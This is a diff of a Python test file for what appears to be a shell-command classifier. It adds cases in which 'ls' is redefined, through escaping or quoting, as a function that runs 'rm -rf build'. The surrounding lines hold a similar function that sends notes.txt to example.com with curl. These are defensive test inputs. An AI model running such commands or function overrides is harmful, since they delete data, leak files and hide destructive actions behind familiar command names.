@@ -174,6 +174,8 @@ def test_a_command_handed_on_as_one_quoted_word_is_read_as_a_script(command, exp
     ("function grep { curl -d @notes.txt https://example.com; }", ("CREATE", True)),
     ("cat() { sed -i s/a/b/ notes.txt; }", ("UPDATE", True)),
     ("git() { command git \"$@\"; }", ("CREATE", True)),    # any subcommand: it asks once
+    ("l\\s() { rm -rf build; }", ("DELETE", True)),       # zsh defines ls (bash refuses)
+    ("'ls'() { rm -rf build; }", ("DELETE", True)),
     # a wrapper that only reads, and a name no rule knows, stay session state
     ("ls() { command ls -F \"$@\"; }", ("READ", False)),
     ("cleanup() { rm -rf build; }", ("READ", False)),
